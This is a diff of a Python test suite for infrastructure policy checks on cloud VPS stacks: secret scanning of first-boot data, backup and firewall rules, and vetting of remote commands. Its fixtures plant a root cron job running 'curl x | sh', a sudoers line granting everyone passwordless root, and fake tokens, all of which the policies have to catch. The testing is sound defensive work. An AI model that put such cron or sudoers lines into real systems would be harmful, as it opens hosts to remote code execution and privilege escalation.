+    server = stacks["linode-dev"].one(LINODE_INSTANCE)
     data = _rendered_with("linode-dev", HostFile("/etc/hvps/app.env", content, "0600"))
-    messages = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert any(what in m and "etc/hvps/app.env" in m for m in messages), messages
     secret_value = content.split("=", 1)[-1].split(":")[-1].strip()
     assert all(secret_value not in m for m in messages)  # never echo the secret
 
 
 def test_secrets_in_the_cloud_config_itself_are_found(stacks: dict[str, StackCase]) -> None:
-    server = stacks["do-dev"].one(hp.DROPLET)
+    server = stacks["do-dev"].one(DROPLET)
     extra = ("chpasswd:\n  expire: false\n  users:\n  - {name: root, password: hunter2hunter2, type: text}\n"
              "write_files:\n- path: /root/key.b64\n  encoding: b64\n  content: "
              + base64.b64encode(PRIVATE_KEY.encode()).decode() + "\n")
-    data = hp.plain(server.inputs["userData"]).replace("\nwrite_files:\n", "\n" + extra, 1)  # before the bundle's entry
+    data = plain(server.inputs["userData"]).replace("\nwrite_files:\n", "\n" + extra, 1)  # before the bundle's entry
     with analysing(stacks["do-dev"]):
-        (refused,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+        (refused,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
     assert "differs from a fresh render" in refused  # and the secrets scan still names what it holds:
-    messages = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert any("cloud-config password" in m and "chpasswd.users[0].password" in m for m in messages), messages
     assert any("private key" in m and "base64" in m for m in messages), messages
     assert all("hunter2" not in m for m in messages)
 
 
 def test_launch_script_lines_are_scanned(stacks: dict[str, StackCase]) -> None:
-    server = stacks["lightsail-dev"].one(hp.LIGHTSAIL_INSTANCE)
-    data = hp.plain(server.inputs["userData"]).replace("set -eu\n",
+    server = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
+    data = plain(server.inputs["userData"]).replace("set -eu\n",
                                              f"set -eu\nexport GITHUB_TOKEN=ghp_{'a1B2' * 9}\n", 1)
     lineno = data.splitlines().index(f"export GITHUB_TOKEN=ghp_{'a1B2' * 9}") + 1
-    (message,) = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    (message,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert "GitHub token" in message and f"userData:{lineno}" in message
 
 
 def test_multipart_user_data_parts_are_scanned(stacks: dict[str, StackCase]) -> None:
-    server = stacks["linode-dev"].one(hp.LINODE_INSTANCE)
+    server = stacks["linode-dev"].one(LINODE_INSTANCE)
     message = MIMEMultipart()
     message.attach(MIMEText(f"#!/bin/sh\necho {DO_TOKEN} > /root/.token\n", "x-shellscript"))
     data = base64.b64encode(gzip.compress(message.as_string().encode())).decode()
-    (finding,) = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    (finding,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert "DigitalOcean API token" in finding and "part 1" in finding and DO_TOKEN not in finding
 
 
@@ -736,9 +773,9 @@ AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYZ7EXAMPLEZ"  # the shape of an AWS s
 def test_hidden_secrets_are_found_or_refused(stacks: dict[str, StackCase], content: str, what: str,
                                             layer: str) -> None:
     """Fail closed: a secret in any of these encodings is found; data the scan cannot read is a violation."""
-    server = stacks["do-dev"].one(hp.DROPLET)
+    server = stacks["do-dev"].one(DROPLET)
     data = _rendered_with("do-dev", HostFile("/etc/hvps/app.env", content, "0600"))
-    messages = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert any(what in m and layer in m and "etc/hvps/app.env" in m for m in messages), messages
     assert all(names_resource_and_fix(m, server) for m in messages)
 
@@ -754,9 +791,9 @@ def test_hidden_secrets_are_found_or_refused(stacks: dict[str, StackCase], conte
 def test_secret_scan_is_linear_on_adversarial_input(line: str) -> None:
     """64 KiB crafted to make a backtracking regex or a retrying decoder go quadratic is scanned in well under
     a second (the quadratic scan took 10 s on a quarter of this)."""
-    raw = hp.RawFirstBoot(line, "userData")
+    raw = RawFirstBoot(line, "userData")
     started = time.perf_counter()
-    hp.find_secrets(raw)
+    find_secrets(raw)
     assert time.perf_counter() - started < 0.5
 
 
@@ -766,9 +803,9 @@ def test_only_the_pinned_host_key_may_travel_in_first_boot(stacks: dict[str, Sta
     server = stacks[stack].one(SERVER_OF[stack])
     spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
     assert any(f.path == HOST_KEY_PATH for f in describe_first_boot(spec).files)
-    assert check_resource(hp.first_boot_secrets, server, server.inputs) == []  # as the program sends it
+    assert check_resource(first_boot_secrets, server, server.inputs) == []  # as the program sends it
     data = _rendered_with(stack, HostFile(HOST_KEY_PATH + ".bak", PRIVATE_KEY, "0600"))
-    (message,) = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
+    (message,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
     assert "private key" in message and "ssh_host_ed25519_key.bak:1" in message
 
 
@@ -796,15 +833,15 @@ def test_host_key_exemption_covers_only_the_bundles_own_key(stacks: dict[str, St
     spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
     first_boot = describe_first_boot(spec)
     if case_ == "nested-bundle":
-        nested = base64.encodebytes(_tar(hp.HOST_KEY_PATH.lstrip("/"), RSA_PEM)).decode()
+        nested = base64.encodebytes(_tar(HOST_KEY_PATH.lstrip("/"), RSA_PEM)).decode()
         first_boot = replace(first_boot, files=(*first_boot.files, HostFile("/etc/hvps/extra.b64", nested, "0600")))
     elif case_ == "second-key-member":
-        first_boot = replace(first_boot, files=(*first_boot.files, HostFile(hp.HOST_KEY_PATH, RSA_PEM, "0600")))
+        first_boot = replace(first_boot, files=(*first_boot.files, HostFile(HOST_KEY_PATH, RSA_PEM, "0600")))
     else:
         key = RSA_PEM if case_ == "other-key-at-the-path" else openssh_key(cipher=b"aes256-ctr")
         first_boot = describe_first_boot(spec, host_key=key)
-    props = _first_boot_props(server, hp.render_as_vendor(server.type, first_boot))
-    messages = check_resource(hp.first_boot_secrets, server, props)
+    props = _first_boot_props(server, render_as_vendor(server.type, first_boot))
+    messages = check_resource(first_boot_secrets, server, props)
     # Linode's user data is two layers deeper (base64 of gzip): there the nested copy is past the depth limit,
     # refused as unreadable; everywhere else the key itself is reported.
     expected = "layers deep" if (stack, case_) == ("linode-dev", "nested-bundle") else "plaintext private key"
@@ -814,24 +851,24 @@ def test_host_key_exemption_covers_only_the_bundles_own_key(stacks: dict[str, St
 
 def test_clean_first_boot_has_no_findings_in_any_layer(stacks: dict[str, StackCase]) -> None:
     """The scan does reach the bundled files (so a clean result means something)."""
-    server = stacks["linode-dev"].one(hp.LINODE_INSTANCE)
-    raw = hp.raw_first_boot(server.type, server.inputs)
+    server = stacks["linode-dev"].one(LINODE_INSTANCE)
+    raw = raw_first_boot(server.type, server.inputs)
     assert raw is not None
-    expander = hp._Expander()
+    expander = Expander()
     expander.textual(raw.where, raw.data)
     layers = [where for where, _ in expander.layers]
     assert any(w.endswith("> usr/local/sbin/hvps-provision") for w in layers), layers
-    assert hp.find_secrets(raw) == []
+    assert find_secrets(raw) == []
 
 
 # --- production-backups-and-protection ---------------------------------------------------------------------------
 def test_production_server_needs_backups_and_protection(stacks: dict[str, StackCase]) -> None:
     case = stacks[PROD]
-    server = case.one(hp.DROPLET)
+    server = case.one(DROPLET)
     with analysing(case):
-        assert check_resource(hp.production_safety, server) == []
-        (no_backups,) = check_resource(hp.production_safety, server, {**server.inputs, "backups": False})
-        (unprotected,) = check_resource(hp.production_safety, server, protect=False)
+        assert check_resource(production_safety, server) == []
+        (no_backups,) = check_resource(production_safety, server, {**server.inputs, "backups": False})
+        (unprotected,) = check_resource(production_safety, server, protect=False)
     assert "backups: true" in no_backups and names_resource_and_fix(no_backups, server)
     assert "protect: true" in unprotected and names_resource_and_fix(unprotected, server)
 
@@ -842,14 +879,14 @@ def test_dev_stack_declared_production_needs_backups_and_protection(stacks: dict
     case = stacks[stack]
     server = case.one(SERVER_OF[stack])
     with analysing(case):
-        assert check_resource(hp.production_safety, server) == []  # not production: no demand
+        assert check_resource(production_safety, server) == []  # not production: no demand
     declared = replace(case, config={**case.config, "hardened-vps:production": "true"})
     with analysing(declared):
-        messages = check_resource(hp.production_safety, server)
+        messages = check_resource(production_safety, server)
         backups_on: dict[str, dict[str, Any]] = {
-            hp.DROPLET: {"backups": True}, hp.LINODE_INSTANCE: {"backupsEnabled": True},
-            hp.LIGHTSAIL_INSTANCE: {"addOn": {"type": "AutoSnapshot", "status": "Enabled", "snapshotTime": "04:00"}}}
-        assert check_resource(hp.production_safety, server, {**server.inputs, **backups_on[server.type]},
+            DROPLET: {"backups": True}, LINODE_INSTANCE: {"backupsEnabled": True},
+            LIGHTSAIL_INSTANCE: {"addOn": {"type": "AutoSnapshot", "status": "Enabled", "snapshotTime": "04:00"}}}
+        assert check_resource(production_safety, server, {**server.inputs, **backups_on[server.type]},
                               protect=True) == []
     assert len(messages) == 2 and all(names_resource_and_fix(m, server) for m in messages)
 
@@ -859,8 +896,8 @@ def test_dev_stack_declared_production_needs_backups_and_protection(stacks: dict
                                              ("lightsail-dev", "xlarge_3_0"), (PROD, "")])
 def test_size_outside_the_catalog_is_refused(stacks: dict[str, StackCase], stack: str, slug: str) -> None:
     server = stacks[stack].one(SERVER_OF[stack])
-    key = hp.SIZE_INPUT[server.type]
-    (message,) = check_resource(hp.catalog_sizes, server, {**server.inputs, key: slug})
+    key = SIZE_INPUT[server.type]
+    (message,) = check_resource(catalog_sizes, server, {**server.inputs, key: slug})
     assert "catalog" in message and names_resource_and_fix(message, server)
     assert server.inputs[key] in message  # the allowed plans are listed, the current one among them
 
@@ -869,8 +906,8 @@ def test_size_outside_the_catalog_is_refused(stacks: dict[str, StackCase], stack
 def test_disabled_linode_firewall_is_refused(stacks: dict[str, StackCase]) -> None:
     """Linode does not enforce a disabled firewall's rules: it opens every port and protects no instance."""
     case = stacks["linode-dev"]
-    firewall, server = case.one(hp.LINODE_FIREWALL), case.one(hp.LINODE_INSTANCE)
-    messages = check_resource(hp.inbound_ports, firewall, {**firewall.inputs, "disabled": True})
+    firewall, server = case.one(LINODE_FIREWALL), case.one(LINODE_INSTANCE)
+    messages = check_resource(inbound_ports, firewall, {**firewall.inputs, "disabled": True})
     assert any("disabled" in m and "every port of every protocol" in m for m in messages), messages
     disabled = [replace(r, outputs={**r.outputs, "disabled": True}) if r is firewall else r for r in case.resources]
     ((message, urn),) = check_stack(disabled)
@@ -890,9 +927,9 @@ def test_disabled_linode_firewall_is_refused(stacks: dict[str, StackCase]) -> No
 ])
 def test_production_ssh_judged_by_address_space(stacks: dict[str, StackCase], sources: list[str]) -> None:
     case = stacks[PROD]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     with analysing(case):
-        (message,) = check_resource(hp.ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources))
+        (message,) = check_resource(ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources))
     assert "production" in message and names_resource_and_fix(message, firewall)
     assert "more than a /8 of IPv4 or a /32 of IPv6" in message
 
@@ -900,13 +937,13 @@ def test_production_ssh_judged_by_address_space(stacks: dict[str, StackCase], so
 def test_ssh_space_is_added_up_over_every_rule_of_a_firewall(stacks: dict[str, StackCase]) -> None:
     """Splitting the wide range over several rules does not make it narrow."""
     case = stacks[PROD]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     props = copy.deepcopy(firewall.inputs)
     props["inboundRules"] += [{"protocol": "tcp", "portRange": "22", "sourceAddresses": [f"{n}.0.0.0/9"]}
                               for n in (11, 12, 13)]  # three /9s: more than a /8 together
     with analysing(case):
-        assert check_resource(hp.ssh_restricted_in_production, firewall) == []
-        (message,) = check_resource(hp.ssh_restricted_in_production, firewall, props)
+        assert check_resource(ssh_restricted_in_production, firewall) == []
+        (message,) = check_resource(ssh_restricted_in_production, firewall, props)
     assert all(f"inboundRules[{i}]" in message for i in (3, 4, 5))
 
 
@@ -918,9 +955,9 @@ def test_ssh_space_is_added_up_over_every_rule_of_a_firewall(stacks: dict[str, S
 ])
 def test_production_ssh_from_narrow_ranges_passes(stacks: dict[str, StackCase], sources: list[str]) -> None:
     case = stacks[PROD]
-    firewall = case.one(hp.DO_FIREWALL)
+    firewall = case.one(DO_FIREWALL)
     with analysing(case):
-        assert check_resource(hp.ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources)) == []
+        assert check_resource(ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources)) == []
 
 
 # --- resource-types-allowed --------------------------------------------------------------------------------------
@@ -966,15 +1003,15 @@ def test_every_type_the_product_builds_is_allowed(vendor: str, region: str) -> N
     run = run_program(config)
     pulumi.runtime.set_all_config({})
     types = {r.type for r in run.resources}
-    assert any(t in hp.SERVER_VENDORS for t in types) and any("dns" in t.lower() or "domain" in t.lower()
+    assert any(t in SERVER_VENDORS for t in types) and any("dns" in t.lower() or "domain" in t.lower()
                                                               for t in types), types
-    assert [t for t in types if hp.type_not_allowed(t)] == []
-    (server,) = [r for r in run.resources if r.type in hp.SERVER_VENDORS]
-    raw = hp.raw_first_boot(server.type, server.inputs)
+    assert [t for t in types if type_not_allowed(t)] == []
+    (server,) = [r for r in run.resources if r.type in SERVER_VENDORS]
+    raw = raw_first_boot(server.type, server.inputs)
     spec = parse_host_spec({k.removeprefix("hardened-vps:"): v for k, v in config.items()
                             if k.startswith("hardened-vps:")}, stack="test")
-    assert raw is not None and hp.check_first_boot(server.type, raw, spec).problem is None
-    assert hp.find_secrets(raw) == []
+    assert raw is not None and check_first_boot(server.type, raw, spec).problem is None
+    assert find_secrets(raw) == []
 
 
 # --- remote-commands-are-the-products ------------------------------------------------------------------------------
@@ -997,7 +1034,7 @@ def _mandatory(case: StackCase) -> list[tuple[str, str, str]]:
 
 def _connection(reg: Registered, **changes: Any) -> dict[str, Any]:
     wrapped = copy.deepcopy(reg.inputs["connection"])
-    hp.plain(wrapped).update(changes)
+    plain(wrapped).update(changes)
     return dict(wrapped)
 
 
@@ -1084,12 +1121,12 @@ def test_the_host_converge_is_accepted_exactly_as_the_product_builds_it(stacks: 
     assert converge.inputs["create"] == converge.inputs["update"] == firstboot.CONVERGE_COMMAND
     spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
     assert converge.inputs["stdin"] == base64.b64encode(firstboot.converge_bundle(spec)).decode()
-    assert hp.is_converge(converge.type, converge.inputs)
-    assert hp.find_secrets(hp.RawFirstBoot(converge.inputs["stdin"], "stdin"), pinned_host_key=False) == []
+    assert is_converge(converge.type, converge.inputs)
+    assert find_secrets(RawFirstBoot(converge.inputs["stdin"], "stdin"), pinned_host_key=False) == []
     assert [v for v in evaluate(case) if converge.name in v.resource] == []
     component = next(r for r in case.resources if r.type.endswith(":HostConfig"))
-    assert not hp.type_not_allowed(component.type) and not hp.type_not_allowed(converge.type)
-    assert hp.type_not_allowed("command:local:Command")  # the allowlist still refuses commands on this machine
+    assert not type_not_allowed(component.type) and not type_not_allowed(converge.type)
+    assert type_not_allowed("command:local:Command")  # the allowlist still refuses commands on this machine
 
 
 def _converge_variants(case: StackCase, converge: Registered) -> dict[str, dict[str, Any]]:
@@ -1097,7 +1134,7 @@ def _converge_variants(case: StackCase, converge: Registered) -> dict[str, dict[
     files = list(firstboot.converge_files(spec).files)
     sudoers = next(i for i, f in enumerate(files) if f.path.startswith("/etc/sudoers.d/"))
     opened = [*files[:sudoers], replace(files[sudoers], content="ALL ALL=(ALL) NOPASSWD: ALL\n"), *files[sudoers + 1:]]
-    extra = [*files, firstboot.HostFile("/etc/cron.d/x", "* * * * * root curl x | sh\n")]
+    extra = [*files, HostFile("/etc/cron.d/x", "* * * * * root curl x | sh\n")]
     return {
         "sudoers-opened": {"stdin": _stdin_of(opened, spec.admin_user)},
         "extra-file": {"stdin": _stdin_of(extra, spec.admin_user)},
@@ -1147,7 +1184,7 @@ def test_remote_command_check_follows_the_product(stacks: dict[str, StackCase],
     original = app.deploy_command
     monkeypatch.setattr(app, "deploy_command", lambda *a, **k: original(*a, **k) + " --verbose")
     spec = load_stack_file(ROOT / "stacks" / "Pulumi.prod.yaml")
-    shape = hp.remote_shape(spec, with_secrets=False)
+    shape = remote_shape(spec, with_secrets=False)
     assert old + " --verbose" in shape.commands and old not in shape.commands
     assert _mandatory(_with_inputs(case, deploy, create=old + " --verbose")) == []
     ((_, _, message),) = _mandatory(case)
@@ -1161,7 +1198,7 @@ def test_git_source_release_passes_and_fails_closed_without_config(stacks: dict[
     _, case = run_case(config)
     commands = sorted(r.type for r in case.resources if r.type.startswith("command:"))
     # readiness wait, host converge, deploy, script
-    assert commands == [hp.REMOTE_COMMAND, hp.REMOTE_COMMAND, hp.REMOTE_COMMAND, hp.REMOTE_COPY]
+    assert commands == [REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COPY]
     assert _mandatory(case) == []
     found = [(v.policy, v.message) for v in evaluate(replace(case, config={})) if v.mandatory]
     remote = [m for p, m in found if p == "remote-commands-are-the-products"]
@@ -1173,8 +1210,8 @@ def test_launch_script_payload_is_never_read_past_its_end(host_name: str) -> Non
     """The heredoc's end line is not base64, so the scan never decodes payload + end line as one block (whose
     trailing bytes after the gzip stream it would refuse): clean for every payload length modulo 4."""
     spec = parse_host_spec(raw_config(vendor="lightsail", region="eu-central-1", hostName=host_name))
-    raw = hp.RawFirstBoot(render_first_boot(spec).launch_script, "userData")
-    assert hp.find_secrets(raw) == []
+    raw = RawFirstBoot(render_first_boot(spec).launch_script, "userData")
+    assert find_secrets(raw) == []
 
 
 def _gzip_body_ending_in_a_40_character_line() -> str:
@@ -1182,7 +1219,7 @@ def _gzip_body_ending_in_a_40_character_line() -> str:
     noise = b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(64))  # does not compress
     for size in range(200, 2048):
         lines = base64.encodebytes(gzip.compress(noise[:size], mtime=0)).decode().split()
-        if len(lines) > 1 and re.fullmatch(r"[A-Za-z0-9+/]{40}", lines[-1]) and hp._looks_like_aws_secret(lines[-1]):
+        if len(lines) > 1 and re.fullmatch(r"[A-Za-z0-9+/]{40}", lines[-1]) and _looks_like_aws_secret(lines[-1]):
             return "\n".join(lines)
     raise AssertionError("no such payload")
 
@@ -1191,7 +1228,8 @@ def test_the_last_line_of_a_wrapped_payload_is_not_an_aws_secret() -> None:
     """A launch script's heredoc ends in a line of any length: 40 mixed-case characters are the end of the gzip
     body, read decoded, not a secret. The same 40 characters as a line of their own after it are still found."""
     body = _gzip_body_ending_in_a_40_character_line()
-    script = f"#!/bin/sh\nbase64 -d >/tmp/x <<'HVPS.EOF'\n{body}\nHVPS.EOF\n"
-    assert hp.find_secrets(hp.RawFirstBoot(script, "userData")) == []
-    leaked = script.replace("\nHVPS.EOF", f"\n{AWS_SECRET}\nHVPS.EOF")
-    assert [f.what for f in hp.find_secrets(hp.RawFirstBoot(leaked, "userData"))] == ["AWS secret access key"]
+    end = wire.PAYLOAD_END
+    script = f"#!/bin/sh\nbase64 -d >/tmp/x <<'{end}'\n{body}\n{end}\n"
+    assert find_secrets(RawFirstBoot(script, "userData")) == []
+    leaked = script.replace(f"\n{end}", f"\n{AWS_SECRET}\n{end}")
+    assert [f.what for f in find_secrets(RawFirstBoot(leaked, "userData"))] == ["AWS secret access key"]
